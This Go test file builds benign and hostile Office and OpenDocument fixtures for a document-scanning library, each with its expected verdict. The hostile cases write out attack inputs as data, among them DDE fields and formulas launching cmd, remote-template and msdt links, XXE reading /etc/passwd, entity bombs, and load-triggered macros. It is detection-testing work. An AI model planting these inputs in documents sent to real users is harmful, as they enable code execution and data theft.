package corpus

import (
	"fmt"
	"maps"
	"slices"
	"strings"

	"airlock"
)

const (
	docxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	pptxType = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
	odtType  = "application/vnd.oasis.opendocument.text"
	odsType  = "application/vnd.oasis.opendocument.spreadsheet"
	odpType  = "application/vnd.oasis.opendocument.presentation"

	docxMain = docxType + ".main+xml"
	xlsxMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	pptxMain = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"

	relsOf = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	xmlV1  = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
)

// parts are a document's, by name; "" takes one away.
type parts map[string]string

func typesWith(mainPart, mainType, more string) string {
	return xmlV1 + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>` +
		`<Override PartName="/` + mainPart + `" ContentType="` + mainType + `"/>` + more + `</Types>`
}

// rels are relationships: a type and a target, in turns; a target that ends in "!" is external.
func rels(typesAndTargets ...string) string {
	var b strings.Builder
	b.WriteString(xmlV1 + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i := 0; i+1 < len(typesAndTargets); i += 2 {
		kind, target, mode := typesAndTargets[i], typesAndTargets[i+1], ""
		if !strings.Contains(kind, "://") {
			kind = relsOf + kind
		}
		if t, ok := strings.CutSuffix(target, "!"); ok {
			target, mode = t, ` TargetMode="External"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="%s" Target="%s"%s/>`, i/2+1, kind, target, mode)
	}
	return b.String() + `</Relationships>`
}

func wordText(inner string) string {
	return xmlV1 + `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello &amp; welcome</w:t></w:r></w:p>` + inner + `<w:sectPr/></w:body></w:document>`
}

// pack makes a zip archive of base with change, in the order that Office writes.
func pack(base, change parts) []byte {
	all := maps.Clone(base)
	maps.Copy(all, change)
	names := slices.Sorted(maps.Keys(all))
	slices.SortStableFunc(names, func(a, b string) int { return rank(a) - rank(b) })
	var list []string
	for _, n := range names {
		if all[n] != "" {
			list = append(list, n, all[n])
		}
	}
	return goZip(list...)
}

func rank(name string) int {
	switch name {
	case "mimetype", "[Content_Types].xml":
		return 0
	case "_rels/.rels":
		return 1
	}
	return 2
}

var docxParts = parts{
	"[Content_Types].xml":          typesWith("word/document.xml", docxMain, ""),
	"_rels/.rels":                  rels("officeDocument", "word/document.xml", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml"),
	"docProps/core.xml":            xmlV1 + `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>`,
	"word/document.xml":            wordText(""),
	"word/_rels/document.xml.rels": rels("styles", "styles.xml", "hyperlink", "https://example.org/!", "image", "https://example.org/a.png!"),
	"word/styles.xml":              xmlV1 + `<w:styles xmlns:w="x"/>`,
}

var xlsxParts = parts{
	"[Content_Types].xml":        typesWith("xl/workbook.xml", xlsxMain, ""),
	"_rels/.rels":                rels("officeDocument", "xl/workbook.xml"),
	"xl/workbook.xml":            xmlV1 + `<workbook xmlns="x"><sheets><sheet name="A" sheetId="1"/></sheets><definedNames><definedName name="a">Sheet1!$A$1</definedName></definedNames></workbook>`,
	"xl/_rels/workbook.xml.rels": rels("worksheet", "worksheets/sheet1.xml", "externalLink", "externalLinks/externalLink1.xml"),
	"xl/worksheets/sheet1.xml":   xmlV1 + `<worksheet xmlns="x"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)&amp;"|'"</f><v>1</v></c></row></sheetData></worksheet>`,
}

var pptxParts = parts{
	"[Content_Types].xml":             typesWith("ppt/presentation.xml", pptxMain, `<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>`),
	"_rels/.rels":                     rels("officeDocument", "ppt/presentation.xml"),
	"ppt/presentation.xml":            xmlV1 + `<p:presentation xmlns:p="x"/>`,
	"ppt/_rels/presentation.xml.rels": rels("slide", "slides/slide1.xml"),
	"ppt/slides/slide1.xml":           xmlV1 + `<p:sld xmlns:p="x" xmlns:a="y"><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>`,
}

func docxOf(change parts) []byte { return pack(docxParts, change) }

func docmOf() []byte {
	return docxOf(parts{"[Content_Types].xml": typesWith("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", ""), "word/vbaProject.bin": vbaBin()})
}

func vbaBin() string { return string(oleOf{streams: macros("")}.make()) }

// bases are what is changed, by media type.
var bases = map[string]parts{docxType: docxParts, xlsxType: xlsxParts, pptxType: pptxParts, odtType: odfParts(odtType, ""), odsType: odfParts(odsType, ""), odpType: odfParts(odpType, "")}

func officeCase(name, mediaType string, want airlock.Reason, change parts) Case {
	ext := map[string]string{docxType: "docx", xlsxType: "xlsx", pptxType: "pptx", odtType: "odt", odsType: "ods", odpType: "odp"}[mediaType]
	return Case{Name: "office-" + name + "." + ext, Type: mediaType, Want: want, Make: func() []byte { return pack(bases[mediaType], change) }}
}

func officeCases() []Case {
	return slices.Concat(honestOffice(), hostileOffice(), hostileParts(), honestODF(), hostileODF(), officeTricks(), documentChunks(), flatOfficeCases())
}

func field(code ...string) string {
	var b strings.Builder
	b.WriteString(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`)
	for _, c := range code {
		b.WriteString(`<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`)
	}
	return wordText(b.String() + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
}

func honestOffice() []Case {
	utf16 := "\xff\xfe" + wide(strings.Replace(wordText(""), "UTF-8", "UTF-16", 1))
	order := func() []byte { // Google writes the list of types last
		return goZip("word/numbering.xml", "<a/>", "word/document.xml", docxParts["word/document.xml"], "_rels/.rels", docxParts["_rels/.rels"], "[Content_Types].xml", docxParts["[Content_Types].xml"])
	}
	return []Case{
		officeCase("plain", docxType, "", nil),
		officeCase("plain", xlsxType, "", nil),
		officeCase("plain", pptxType, "", nil),
		{Name: "office-types-last.docx", Type: docxType, Make: order},
		officeCase("main-by-default", docxType, "", parts{"[Content_Types].xml": xmlV1 + `<Types><Default Extension="xml" ContentType="` + docxMain + `"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>`}),
		officeCase("strict", docxType, "", parts{"_rels/.rels": rels("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "/word/document.xml")}),
		officeCase("in-utf-16", docxType, "", parts{"word/document.xml": utf16}),
		officeCase("byte-order-mark", docxType, "", parts{"word/document.xml": "\xef\xbb\xbf" + wordText("")}),
		officeCase("template-on-a-disk", docxType, "", parts{"word/_rels/settings.xml.rels": rels("attachedTemplate", "file:///C:\\Users\\a\\Templates\\Normal.dotm!")}),
		officeCase("linked-book-on-a-disk", docxType, "", parts{"word/_rels/document.xml.rels": rels("oleObject", "file:///C:/data/a.xlsx!")}),
		officeCase("links-of-a-pasted-page", docxType, "", parts{"word/_rels/document.xml.rels": rels("hyperlink", "javascript:void(0)!", "hyperlink", "mailto:a@example.org!", "hyperlink", "#top!")}),
		officeCase("fields", docxType, "", parts{"word/document.xml": field(" HYPER", "LINK &quot;https://example.org&quot; ")}),
		officeCase("field-named-alike", docxType, "", parts{"word/document.xml": field(" DDELIVERY ")}),
		officeCase("text-on-dde", docxType, "", parts{"word/document.xml": wordText("<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>")}),
		officeCase("chart-with-a-workbook", docxType, "", parts{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": string(pack(xlsxParts, nil))}),
		officeCase("old-object", docxType, "", parts{"word/embeddings/oleObject1.bin": string(oleOf{streams: excelParts()}.make())}),
		officeCase("formula", docxType, "", parts{"word/embeddings/oleObject1.bin": string(oleOf{streams: []olePart{{path: "Equation Native", data: equation("Times New Roman")}}}.make())}),
		officeCase("picture-of-svg", pptxType, "", parts{"ppt/media/image1.svg": `<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>`}),
		officeCase("picture-from-the-web", docxType, "", parts{"word/document.xml": field(` INCLUDEPICTURE "https://example.org/a.png" \* MERGEFORMAT `)}),
		officeCase("text-put-in", pptxType, "", parts{"ppt/embeddings/oleObject1.bin": string(oleOf{streams: []olePart{{path: "\x01Ole10Native", data: native("notes.txt", "x")}}}.make())}),
		officeCase("trash-of-office", docxType, "", parts{"[trash]/0000.dat": strings.Repeat("\x00", 500)}),
		officeCase("packed-again-on-a-mac", xlsxType, "", parts{"__MACOSX/xl/._sharedStrings.xml": "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "}),
		officeCase("printer-settings", xlsxType, "", parts{"xl/printerSettings/printerSettings1.bin": wide("Printer"), "[Content_Types].xml": strings.Replace(typesWith("xl/workbook.xml", xlsxMain, ""), "application/vnd.openxmlformats-officedocument.oleObject", "application/vnd.ms-office.vbaProject", 1)}),
		officeCase("drawing-of-excel-not-closed", xlsxType, "", parts{"xl/drawings/vmlDrawing1.vml": `<xml><v:shape><br></v:shape></xml>`}),
		officeCase("empty-part", xlsxType, "", parts{"customXml/item1.xml": " "}),
		officeCase("linked-workbook", xlsxType, "", parts{"xl/externalLinks/_rels/externalLink1.xml.rels": rels("externalLinkPath", "file:///\\\\server\\share\\a.xlsx!")}),
		officeCase("report-of-html", docxType, "", parts{"word/afchunk.mht": "MIME-Version: 1.0\nContent-Type: text/html\n\n<html><body>hello</body></html>", "word/_rels/document.xml.rels": rels("aFChunk", "/word/afchunk.mht"), "[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/>`)}),
		officeCase("video-from-the-web", pptxType, "", parts{"ppt/slides/_rels/slide1.xml.rels": rels("video", "https://www.youtube.com/embed/x!")}),
		with(officeCase("macros-allowed", docxType, "", parts{"word/vbaProject.bin": vbaBin()}), activeAllowed),
		{Name: "office-by-dotnet-with-odd-headers.docx", Type: docxType, Make: dotnetDocx},
		{Name: "office-padded-by-word.docx", Type: docxType, Make: paddedDocx},
	}
}

// dotnetDocx has the headers of System.IO.Packaging: descriptors, and sizes of 64 bits in front that
// the directory does without.
func dotnetDocx() []byte {
	var z zipOf
	for _, n := range slices.Sorted(maps.Keys(docxParts)) {
		z.parts = append(z.parts, zipPart{name: n, data: docxParts[n], streamed: 1, flags: 1 << 3, localExtra: extraField(1, strings.Repeat("\x00", 16))})
	}
	return z.make()
}

// paddedDocx has the extra field that Office reserves room by.
func paddedDocx() []byte {
	var z zipOf
	for _, n := range slices.Sorted(maps.Keys(docxParts)) {
		z.parts = append(z.parts, zipPart{name: n, data: docxParts[n], flags: 6, localExtra: extraField(0xa220, "\x28\xa0\x04\x02"+strings.Repeat("\x00", 500))})
	}
	return z.make()
}

func hostileOffice() []Case {
	locked := oleOf{streams: []olePart{{path: "EncryptedPackage", data: strings.Repeat("x", 5000)}, {path: "EncryptionInfo", data: "x"}}}
	return []Case{
		officeCase("macros-renamed", docxType, airlock.ActiveContent, parts{"[Content_Types].xml": typesWith("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "")}),
		officeCase("macros-renamed", xlsxType, airlock.ActiveContent, parts{"[Content_Types].xml": typesWith("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "")}),
		officeCase("macros-renamed", pptxType, airlock.ActiveContent, parts{"[Content_Types].xml": typesWith("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "")}),
		officeCase("template-renamed", docxType, airlock.TypeMismatch, parts{"[Content_Types].xml": typesWith("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "")}),
		officeCase("workbook-renamed", docxType, airlock.TypeMismatch, parts{"[Content_Types].xml": typesWith("word/document.xml", xlsxMain, "")}),
		officeCase("macros", docxType, airlock.ActiveContent, parts{"word/vbaProject.bin": vbaBin()}),
		officeCase("macros-under-another-name", docxType, airlock.ActiveContent, parts{"word/media/image1.png": vbaBin()}),
		officeCase("macros-by-type-alone", docxType, airlock.ActiveContent, parts{"word/x.bin": "x", "[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>`)}),
		officeCase("macros-by-relationship", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": rels("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin"), "word/x.bin": "x"}),
		with(officeCase("macros-header-only", docxType, airlock.ActiveContent, parts{"word/vbaProject.bin": vbaBin()}), headerOnly),
		officeCase("macro-sheet", xlsxType, airlock.ActiveContent, parts{"xl/macrosheets/sheet1.xml": "<a/>", "[Content_Types].xml": typesWith("xl/workbook.xml", xlsxMain, `<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`)}),
		officeCase("macro-sheet-elsewhere", xlsxType, airlock.ActiveContent, parts{"xl/_rels/workbook.xml.rels": rels("http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet", "worksheets/sheet1.xml")}),
		officeCase("activex", docxType, airlock.ActiveContent, parts{"word/activeX/activeX1.xml": `<ax:ocx xmlns:ax="x"/>`}),
		officeCase("activex-by-relationship", pptxType, airlock.ActiveContent, parts{"ppt/slides/_rels/slide1.xml.rels": rels("control", "../x/1.xml")}),
		officeCase("no-types", docxType, airlock.TypeMismatch, parts{"[Content_Types].xml": ""}),
		officeCase("main-of-nothing", docxType, airlock.Malformed, parts{"word/document.xml": " "}),
		officeCase("no-main", docxType, airlock.Malformed, parts{"word/document.xml": ""}),
		officeCase("two-mains", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", "word/other.xml"), "word/other.xml": wordText("")}),
		officeCase("external-entity", docxType, airlock.Malformed, parts{"word/document.xml": strings.Replace(wordText(""), "\n", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, 1)}),
		officeCase("external-entity-in-utf-16", docxType, airlock.Malformed, parts{"word/document.xml": "\xff\xfe" + wide(strings.Replace(wordText(""), "\n", `<!DOCTYPE a SYSTEM "http://example.org/x">`, 1))}),
		officeCase("laughs", xlsxType, airlock.Malformed, parts{"xl/sharedStrings.xml": `<!DOCTYPE a [<!ENTITY l "lol"><!ENTITY m "&l;&l;&l;">]><sst>&m;</sst>`}),
		officeCase("entity-in-types", docxType, airlock.Malformed, parts{"[Content_Types].xml": `<!DOCTYPE a [<!ENTITY x "y">]>` + typesWith("word/document.xml", docxMain, "")[len(xmlV1):]}),
		officeCase("text-not-closed", docxType, airlock.Malformed, parts{"word/document.xml": strings.TrimSuffix(wordText(""), "</w:document>")}),
		officeCase("page-as-the-document", docxType, airlock.Malformed, parts{"word/document.xml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`}),
		officeCase("text-of-no-xml", docxType, airlock.Malformed, parts{"word/document.xml": "hello"}),
		officeCase("in-utf-7", docxType, airlock.Uninspectable, parts{"word/document.xml": strings.Replace(wordText(""), "UTF-8", "UTF-7", 1)}),
		{Name: "office-two-empty-names.docx", Type: docxType, Want: airlock.Malformed, Make: func() []byte { return goZip("[Content_Types].xml", "", "word/x", "") }},
		{Name: "office-script-behind-end.docx", Type: docxType, Want: airlock.TrailingData, Make: func() []byte { return append(docxOf(nil), "<script>alert(1)</script>"...) }},
		{Name: "office-name-twice.docx", Type: docxType, Want: airlock.UnsafeArchive, Make: func() []byte {
			return goZip("[Content_Types].xml", docxParts["[Content_Types].xml"], "_rels/.rels", docxParts["_rels/.rels"], "word/document.xml", wordText(""), "word/document.xml", wordText(""))
		}},
		{Name: "office-locked-new.xlsx", Type: xlsxType, Want: airlock.Encrypted, Make: locked.make},
		{Name: "office-old-renamed.xlsx", Type: xlsxType, Want: airlock.TypeMismatch, Make: oleOf{streams: excelParts()}.make},
	}
}

func hostileParts() []Case {
	hta := rels("oleObject", "http://example.org/a.hta!")
	return []Case{
		officeCase("template-from-the-web", docxType, airlock.ActiveContent, parts{"word/_rels/settings.xml.rels": rels("attachedTemplate", "https://example.org/a.dotm!")}),
		officeCase("template-from-a-server", docxType, airlock.ActiveContent, parts{"word/_rels/settings.xml.rels": rels("attachedTemplate", `\\example.org\share\a.dotm!`)}),
		officeCase("template-from-a-server-by-file", docxType, airlock.ActiveContent, parts{"word/_rels/settings.xml.rels": rels("attachedTemplate", "file://example.org/share/a.dotm!")}),
		officeCase("template-hidden-by-escapes", docxType, airlock.ActiveContent, parts{"word/_rels/settings.xml.rels": rels("attachedTemplate", "&#104;ttp%3a//example.org/a!")}),
		officeCase("object-from-the-web", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": hta}),
		with(officeCase("object-from-the-web-header-only", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": hta}), headerOnly),
		officeCase("object-by-mhtml", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://example.org/a!x-usc:http://example.org/a!")}),
		officeCase("frame-from-the-web", docxType, airlock.ActiveContent, parts{"word/_rels/webSettings.xml.rels": rels("frame", "http://example.org/!")}),
		officeCase("subdocument-from-a-server", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": rels("subDocument", `\\example.org\a!`)}),
		officeCase("script-as-a-link", docxType, airlock.ActiveContent, parts{"word/_rels/document.xml.rels": rels("hyperlink", "JaVaScript:alert(1)!")}),
		officeCase("msdt-as-a-link", xlsxType, airlock.ActiveContent, parts{"xl/worksheets/_rels/sheet1.xml.rels": rels("hyperlink", "ms-msdt:/id PCWDiagnostic!")}),
		officeCase("dde", docxType, airlock.ActiveContent, parts{"word/document.xml": field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`)}),
		officeCase("dde-split-over-runs", docxType, airlock.ActiveContent, parts{"word/document.xml": field(" D", "DE", "AU", "TO c:\\\\x")}),
		officeCase("dde-split-by-references", docxType, airlock.ActiveContent, parts{"word/document.xml": field("&#68;", "&#x44;E c:\\\\x")}),
		officeCase("dde-in-a-simple-field", docxType, airlock.ActiveContent, parts{"word/document.xml": wordText(`<w:fldSimple w:instr="DDE cmd /c"><w:r/></w:fldSimple>`)}),
		officeCase("dde-in-a-header", docxType, airlock.ActiveContent, parts{"word/header1.xml": field("dde cmd ")}),
		officeCase("dde-link", xlsxType, airlock.ActiveContent, parts{"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}),
		officeCase("dde-formula", xlsxType, airlock.ActiveContent, parts{"xl/worksheets/sheet1.xml": `<worksheet><sheetData><row><c><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`}),
		officeCase("click-starts-a-program", pptxType, airlock.ActiveContent, parts{"ppt/slides/slide1.xml": `<p:sld xmlns:p="x"><a:hlinkClick action="ppaction://program"/></p:sld>`}),
		officeCase("program-put-in", docxType, airlock.ActiveContent, parts{"word/embeddings/oleObject1.bin": string(oleOf{streams: []olePart{{path: "\x01Ole10Native", data: native("a.exe", aProgram)}}}.make())}),
		officeCase("link-put-in", docxType, airlock.ActiveContent, parts{"word/embeddings/oleObject1.bin": string(oleOf{streams: []olePart{{path: "\x01Ole10Native", data: native("a.lnk", "L")}}}.make())}),
		officeCase("program-as-a-picture", docxType, airlock.ActiveContent, parts{"word/media/image1.png": aProgram}),
		officeCase("script-as-a-part", docxType, airlock.ActiveContent, parts{"word/run.vbs": "x"}),
		officeCase("macro-book-inside", docxType, airlock.ActiveContent, parts{"word/embeddings/a.xlsx": string(pack(xlsxParts, parts{"xl/vbaProject.bin": vbaBin()}))}),
		officeCase("program-of-java-as-well", docxType, airlock.TypeMismatch, parts{"META-INF/MANIFEST.MF": "Main-Class: A\n"}),
		officeCase("document-of-libreoffice-as-well", docxType, airlock.TypeMismatch, parts{"mimetype": odtType}),
		officeCase("page-without-a-type", docxType, airlock.ActiveContent, parts{"word/a.html": "<html><script>alert(1)</script></html>"}),
		officeCase("picture-with-script", pptxType, airlock.ActiveContent, parts{"ppt/media/image1.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`}),
		officeCase("script-of-a-server", docxType, airlock.ActiveContent, parts{"word/media/shell.php": "<?php"}),
		officeCase("text-from-the-web", docxType, airlock.ActiveContent, parts{"word/document.xml": field(` INCLUDETEXT "http://example.org/a.docx" `)}),
		officeCase("formula-that-runs", docxType, airlock.ActiveContent, parts{"word/embeddings/oleObject1.bin": string(oleOf{streams: []olePart{{path: "Equation Native", data: equation(strings.Repeat("A", 60))}}}.make())}),
		officeCase("macro-document-inside-two", docxType, airlock.ActiveContent, parts{"word/embeddings/a.docx": string(docxOf(parts{"word/embeddings/b.docx": string(docmOf())}))}),
		officeCase("documents-inside-documents", docxType, airlock.Bomb, parts{"word/embeddings/a.docx": string(deepDocx(5))}),
		officeCase("report-of-html-with-script", docxType, airlock.ActiveContent, parts{"word/a.html": "<html><script>alert(1)</script></html>", "[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/a.html" ContentType="text/html"/>`)}),
		officeCase("chunk-of-rtf-with-object", docxType, airlock.ActiveContent, parts{"word/a.rtf": `{\rtf1{\object\objupdate{\*\objdata 01}}}`}),
		with(officeCase("bomb-of-a-sheet", xlsxType, airlock.Bomb, parts{"xl/worksheets/sheet2.xml": "<a>" + strings.Repeat("0", 2<<20) + "</a>"}), func(p *airlock.Profile) { p.Limits.MaxUnpackedBytes = 1 << 20 }),
	}
}

// equation is a formula of Equation Editor 3 that names a font.
func equation(font string) string {
	return "\x1c\x00" + strings.Repeat("\x00", 26) + "\x03\x01\x01\x03\x0a" + "\x0a\x01\x00" + "\x08\x5a\x5a" + font + "\x00\x00\x00\x00"
}

func deepDocx(depth int) []byte {
	b := docxOf(nil)
	for range depth {
		b = docxOf(parts{"word/embeddings/a.docx": string(b)})
	}
	return b
}

// odfParts are a document of LibreOffice, which always has empty lists of macros.
func odfParts(mediaType, body string) parts {
	const ns = ` xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:t" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:s" xmlns:table="urn:ta" xmlns:draw="urn:d" xmlns:presentation="urn:p"`
	return parts{
		"mimetype":              mediaType,
		"META-INF/manifest.xml": xmlV1 + `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="` + mediaType + `"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
		"content.xml":           xmlV1 + `<office:document-content` + ns + `><office:body><text:p>Hello</text:p><text:a xlink:href="https://example.org/">x</text:a>` + body + `</office:body></office:document-content>`,
		"styles.xml":            xmlV1 + `<office:document-styles` + ns + `/>`,
	}
}

func body(mediaType, inner string) parts { return odfParts(mediaType, inner) }

func honestODF() []Case {
	const lists = `<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd">` + "\n"
	old := strings.Replace(odfParts(odtType, "")["META-INF/manifest.xml"], "\n", `<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd">`, 1)
	return []Case{
		officeCase("plain", odtType, "", nil), officeCase("plain", odsType, "", nil), officeCase("plain", odpType, "", nil),
		officeCase("type-only-in-the-manifest", odtType, "", parts{"mimetype": ""}),
		officeCase("type-with-a-line-end", odtType, "", parts{"mimetype": odtType + "\n"}),
		officeCase("manifest-of-openoffice-2", odtType, "", parts{"META-INF/manifest.xml": old}),
		officeCase("empty-lists-of-macros", odsType, "", parts{"Basic/script-lc.xml": xmlV1 + lists + `<library:libraries xmlns:library="x"/>`, "Basic/Standard/script-lb.xml": xmlV1 + strings.ReplaceAll(lists, "libraries", "library") + `<library:library xmlns:library="x"/>`}),
		officeCase("chart-inside", odtType, "", parts{"Object 1/content.xml": odfParts(odtType, "")["content.xml"], "ObjectReplacements/Object 1": "VCLMTF"}),
		officeCase("old-object", odtType, "", parts{"Object 2": string(oleOf{streams: excelParts()}.make())}),
		officeCase("libraries-named", odsType, "", body(odsType, `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="o"><ooo:library-embedded ooo:name="Standard"/></ooo:libraries></office:script></office:scripts>`)),
		officeCase("pictures-and-objects", odtType, "", body(odtType, `<draw:image xlink:href="https://example.org/a.png"/><draw:object xlink:href="./Object 1"/>`)),
		officeCase("own-data-by-dde", odsType, "", body(odsType, `<office:dde-source office:dde-application="soffice"/>`)),
		officeCase("presentation-with-clicks", odpType, "", body(odpType, `<presentation:event-listener presentation:action="next-page"/>`)),
		{Name: "office-type-stored-first.odt", Type: odtType, Make: func() []byte {
			p := odfParts(odtType, "")
			return zipOf{parts: []zipPart{{name: "mimetype", data: odtType, store: true}, {name: "content.xml", data: p["content.xml"], streamed: 1}, {name: "META-INF/manifest.xml", data: p["META-INF/manifest.xml"]}, {name: "Configurations2/"}}}.make()
		}},
	}
}

func hostileODF() []Case {
	listener := `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>`
	manifest := strings.Replace(odfParts(odtType, "")["META-INF/manifest.xml"], `"text/xml"/>`, `"text/xml"><manifest:encryption-data/></manifest:file-entry>`, 1)
	return []Case{
		officeCase("macro-of-basic", odtType, airlock.ActiveContent, parts{"Basic/Standard/Module1.xml": `<script:module xmlns:script="x">Sub Main</script:module>`}),
		with(officeCase("macro-of-basic-header-only", odtType, airlock.ActiveContent, parts{"Basic/Standard/Module1.xml": `<script:module xmlns:script="x">Sub Main</script:module>`}), headerOnly),
		officeCase("macro-of-python", odsType, airlock.ActiveContent, parts{"Scripts/python/a.py": "import os"}),
		officeCase("macro-on-load", odtType, airlock.ActiveContent, body(odtType, listener)),
		officeCase("macro-on-load-in-an-object", odtType, airlock.ActiveContent, parts{"Object 1/content.xml": body(odtType, listener)["content.xml"]}),
		officeCase("macro-as-a-link", odtType, airlock.ActiveContent, body(odtType, `<text:a xlink:href="macro:///Standard.Module1.Main()">x</text:a>`)),
		officeCase("script-as-a-link", odtType, airlock.ActiveContent, body(odtType, `<text:a xlink:href="javascript:alert(1)">x</text:a>`)),
		officeCase("script-of-a-page", odtType, airlock.ActiveContent, body(odtType, `<text:script script:language="JavaScript">x</text:script>`)),
		officeCase("page-as-the-document", odtType, airlock.Malformed, parts{"content.xml": `<html><script>alert(1)</script></html>`}),
		officeCase("object-from-the-web", odtType, airlock.ActiveContent, body(odtType, `<draw:object-ole xlink:href="http://example.org/a.ole"/>`)),
		officeCase("frame-from-the-web", odtType, airlock.ActiveContent, body(odtType, `<draw:floating-frame xlink:href="https://example.org/"/>`)),
		officeCase("applet", odtType, airlock.ActiveContent, body(odtType, `<draw:applet/>`)),
		officeCase("click-starts-a-program", odpType, airlock.ActiveContent, body(odpType, `<presentation:event-listener presentation:action="execute" xlink:href="file:///C:/x.exe"/>`)),
		officeCase("dde", odsType, airlock.ActiveContent, body(odsType, `<office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/>`)),
		officeCase("dde-formula", odsType, airlock.ActiveContent, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;1&quot;)"/>`)),
		officeCase("macro-object", odtType, airlock.ActiveContent, parts{"Object 2": string(oleOf{streams: macros("VBA/")}.make())}),
		officeCase("program-as-a-picture", odtType, airlock.ActiveContent, parts{"Pictures/1.png": aProgram}),
		officeCase("locked", odtType, airlock.Encrypted, parts{"META-INF/manifest.xml": manifest}),
		officeCase("of-a-spreadsheet", odtType, airlock.TypeMismatch, parts{"mimetype": odsType}),
		officeCase("document-of-word-as-well", odtType, airlock.TypeMismatch, parts{"[Content_Types].xml": docxParts["[Content_Types].xml"]}),
		officeCase("of-a-template", odtType, airlock.TypeMismatch, parts{"mimetype": odtType + "-template"}),
		officeCase("no-manifest", odtType, airlock.Malformed, parts{"META-INF/manifest.xml": ""}),
		officeCase("no-content", odtType, airlock.Malformed, parts{"content.xml": ""}),
		officeCase("external-entity", odtType, airlock.Malformed, parts{"content.xml": `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`}),
		officeCase("external-entity-in-manifest", odtType, airlock.Malformed, parts{"META-INF/manifest.xml": `<!DOCTYPE a PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "http://example.org/x.dtd"><a/>`}),
		officeCase("of-a-plain-archive", odtType, airlock.TypeMismatch, parts{"mimetype": "", "META-INF/manifest.xml": ""}),
	}
}
